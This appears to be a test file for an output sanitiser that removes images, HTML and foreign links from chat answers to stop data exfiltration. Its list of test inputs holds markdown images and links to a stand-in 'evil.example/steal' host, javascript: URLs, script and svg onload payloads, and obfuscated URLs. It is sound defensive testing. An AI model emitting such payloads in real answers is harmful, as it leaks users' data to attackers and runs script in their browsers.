# letters of many scripts
"""No image, HTML or foreign link is left, however it is written and wherever it is cut; ordinary text stays."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from service.harmless import acts, harmless, harmless_block, linkable

OURS = "https://docs.example.org/page"
EVIL = "http://evil.example/steal?d=CANARY"

TRICKS = [
    f"![x]({EVIL})",
    f"![x](<{EVIL}>)",
    f"[read on]({EVIL})",
    f'[read on]({EVIL} "title")',
    f"[read [on]({EVIL}) here]({EVIL})",
    f"[![x]({EVIL})]({EVIL})",
    f"see {EVIL} now",
    f"<{EVIL}>",
    "<me@evil.example>",
    "write to me@evil.example",
    "mailto:me@evil.example",
    "www.evil.example/CANARY",
    "evil.example/steal?d=CANARY",
    "пример.рф/steal?d=CANARY",
    "éxample.example/steal?d=CANARY",
    "//evil.example/x",
    "[a](//evil.example/x)",
    "[a](/relative)",
    "[a](javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](JaVaScRiPt:alert(1))",
    f"<img src={EVIL}>",
    f"<img src='{EVIL}'",
    "<script>alert(1)</script>",
    "<!-- x -->",
    "<?php x ?>",
    "<![CDATA[x]]>",
    "</div>",
    "<svg/onload=alert(1)>",
    f"[1]: {EVIL}",
    f"[foo]:\n  {EVIL}",
    f"[^1]: {EVIL}",
    "![x][1]",
    "[x][foo]",
    "[foo]",
    "![",
    "![x]",
    f"({EVIL})",
    f"]({EVIL})",
    f"]: {EVIL}",
    "[foo",
    "<a href=",
    f"'{EVIL}'>",
    "&#104;&#116;&#116;&#112;://evil.example/x",
    "&#x3c;img src=x&#x3E;",
    "&lt;img src=x&gt;",
    "&lpar;x&rpar;",
    "ht\u200btp://evil.example/x",
    "\u202ehttp://evil.example/x",
    "h\u2060ttps://evil.example",
    f"[a\u200b]\u200b({EVIL})",
    f"\\[a]({EVIL})",
    f"\\\\[a]({EVIL})",
    f"!\\[a]({EVIL})",
    f"![a\\]({EVIL})",
    f"`a` ![x]({EVIL}) `b`",
    f"` ![x]({EVIL})",
    f"\\` ![x]({EVIL}) `",
    f"`` ` ![x]({EVIL})",
    f"| `x | ![a]({EVIL}) | y` |",
    "| --- | --- |",
    "```",
    "~~~",
    "- ```",
    "> ```js",
    "`",
    "``",
    "\\",
    "&",
    "<",
    "!",
    "]",
    "(",
    "**",
    "_",
    "# a",
    "    code",
    "- item",
    "plain words",
    "\x00",
    "\x001\x00",
]


def fit(piece):
    return piece.strip("\n")


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_alone_does_nothing(trick):
    assert acts(harmless(trick, {OURS}), {OURS}) is None


@settings(max_examples=600, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(TRICKS), st.sampled_from([" ", "\n", "\n\n"])), min_size=1, max_size=8))
@example([("![", " "), (f"({EVIL})", " ")])
@example([("`", " "), (f"![x]({EVIL})", " "), ("`", "\n")])
def test_tricks_in_sentences_after_each_other_do_nothing(parts):
    answer = "".join(harmless(piece, {OURS}) + after for piece, after in parts)
    assert acts(answer, {OURS}) is None


@settings(max_examples=600, deadline=None)
@given(st.lists(st.sampled_from(TRICKS), min_size=1, max_size=5))
def test_tricks_written_into_each_other_do_nothing(parts):
    assert acts(harmless("".join(parts), {OURS}), {OURS}) is None


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="![]()<>`\\:/&;#ahtp1.@|- \n", max_size=40))
def test_no_other_writing_does_anything_either(text):
    assert acts(harmless(text)) is None


@pytest.mark.parametrize(
    "text",
    [
        "Refunds take 14 days, at 12:30, e.g. for A/B tests (see § 4).",
        "Set `max_connections` in postgresql.conf, or `a < b`.",
        "x < 3 and y > 2, list[int], a[1][2], R&D, AT&T; 5 * 3 = 15!",
        "- an item with **bold** and _emphasis_",
        "| a | b |",
        "日本語の文です。Ümläute. Кириллица? هذه جملة.",
        "می\u200cخواهم بروم",
        "# Installing",
    ],
)
def test_ordinary_text_stays_as_it_is(text):
    assert harmless(text) == text
    assert acts(text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"[the manual]({EVIL}) says so.", "the manual says so."),
        (f"See {EVIL}.", f"See `{EVIL}`."),
        ("The <b> element is bold.", "The `<b>` element is bold."),
        (f"![a chart]({EVIL}) shows it.", "a chart shows it."),
        (f"[the manual]({OURS}) and {OURS}.", f"[the manual](<{OURS}>) and {OURS}."),
        (f"![a chart]({OURS})", "a chart"),
        ("`<b>` and `http://a.example`", "`<b>` and `http://a.example`"),
    ],
)
def test_what_is_left_reads_well(text, expected):
    assert harmless(text, {OURS}) == expected
    assert acts(expected, {OURS}) is None


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (f"![x]({EVIL})", "image"),
        ("a <b>c</b>", "html"),
        (f"[x]({EVIL})", "link"),
        (f"see {EVIL}", "link"),
        ("[x](javascript:alert(1))", "link"),
        (f"[a]\n\n[a]: {EVIL}", "link"),
        (f"```\ncode\n```\n![x]({EVIL})", "image"),
        (f"```\n![x]({EVIL})\n```", None),
        (f"[x]({OURS}) {OURS}", None),
    ],
)
def test_what_acts_is_seen(text, kind):
    assert acts(text, {OURS}) == kind


@pytest.mark.parametrize("name", ["mermaid", "{mermaid}", "dot", "jsx", "html", "SVG", "vega-lite", "python run"])
def test_a_block_is_not_drawn(name):
    assert harmless_block(f"```{name}\nx\n```") == "```\nx\n```"
    assert harmless_block("```python\nx\u200b\n```") == "```python\nx\n```"


@pytest.mark.parametrize("url", ["https://a.example/b?c=d#e", "file:///srv/a.html", "guide/a.html", "/a"])
def test_an_address_that_is_only_followed_is_one(url):
    assert linkable(url) == url


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "JAVASCRIPT:x", "data:text/html,x", "vbscript:x", "https://a b", "x>y", None, ""]
)
def test_an_address_that_does_more_is_none(url):
    assert linkable(url) is None
